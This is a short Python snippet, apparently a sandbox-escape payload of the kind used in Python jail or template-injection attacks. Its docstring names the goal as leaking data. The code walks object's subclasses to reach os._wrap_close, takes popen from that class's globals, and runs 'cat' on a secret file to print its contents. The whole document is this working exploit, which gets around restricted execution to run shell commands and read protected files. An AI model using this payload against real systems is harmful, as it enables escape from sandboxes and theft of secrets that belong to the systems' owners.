"""
goal: find a class with open doors among all subclasses of object
effect: leak
"""

for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        print(kind.__init__.__globals__["popen"]("cat " + SECRET_FILE).read())
